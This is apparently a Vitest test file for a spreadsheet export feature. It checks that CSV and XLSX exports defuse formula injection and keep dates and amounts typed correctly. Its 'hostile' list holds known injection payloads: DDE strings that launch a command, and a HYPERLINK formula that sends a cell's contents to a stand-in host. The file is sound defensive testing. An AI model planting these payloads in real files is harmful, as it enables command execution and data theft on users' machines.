import { tableOf } from "@vigie/shared/export/lists/export-table.ts";
import { contractColumns } from "@vigie/shared/import/contract-columns.ts";
import { readDay } from "@vigie/shared/import/read-day.ts";
import { describe, expect, it } from "vitest";
import { numberLines } from "#lib/spreadsheet/number-lines.ts";
import { parseCsv } from "#lib/spreadsheet/parse-csv.ts";
import { readBook } from "#lib/spreadsheet/read-book.ts";
import { writeExport } from "./write-export.ts";

// What spreadsheets have been made to run, from the lists of those who look for it.
const hostile = [
  "=cmd|'/C calc'!A0",
  '=HYPERLINK("http://x.test?"&A1;"ici")',
  "+1+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "\t=1+1",
  "\r=1+1",
  '=DDE("cmd";"/C calc";"!A0")',
  "＝1+1",
];
const entries = hostile.map((text) => ({ text, day: "2026-12-31", cents: 1_250_050 }));
const table = tableOf(
  "Essai",
  [
    { heading: "Texte", cell: ({ text }) => text },
    { heading: "Jour", cell: ({ day }) => ({ day }) },
    { heading: "Montant", cell: ({ cents }) => ({ cents }) },
  ],
  entries,
);

describe("an exported list", () => {
  it("holds nothing that a spreadsheet would run in CSV, and its numbers stay numbers", async () => {
    const text = await (await writeExport(table, "csv")).text();
    const lines = parseCsv(text.replace(/^\ufeff/, "")).slice(1, -1);
    expect(lines).toHaveLength(hostile.length);
    for (const [cell = "", day, amount] of lines) {
      expect(cell).not.toMatch(/^[=+\-@\t\r＝]/);
      expect([day, amount]).toEqual(["31.12.2026", "12500.5"]);
    }
  });

  it("begins with the mark by which Excel knows UTF-8, and separates with semicolons", async () => {
    const bytes = new Uint8Array(await (await writeExport(table, "csv")).arrayBuffer());
    expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect(new TextDecoder().decode(bytes)).toMatch(/^Texte;Jour;Montant\r\n/);
  });

  it("keeps texts as texts in XLSX, days as days and amounts as numbers", async () => {
    const read = await readBook(await writeExport(table, "xlsx"));
    const [sheet] = "book" in read ? read.book : [];
    const [, first] = sheet?.lines ?? [];
    expect(first?.cells).toEqual([hostile[0], "2026-12-31", "12500.5"]);
    expect(readDay(first?.cells[1] ?? "")).toEqual({ value: "2026-12-31" });
    expect(contractColumns.annualCost.read(first?.cells[2] ?? "")).toEqual({ value: 1_250_050 });
  });

  it("is read again as it was, the mark before a hostile text taken off", () => {
    const [line] = numberLines([["'=1+1", "'+41244661111", "l'eau"]]);
    expect(line?.cells).toEqual(["=1+1", "+41244661111", "l'eau"]);
  });
});
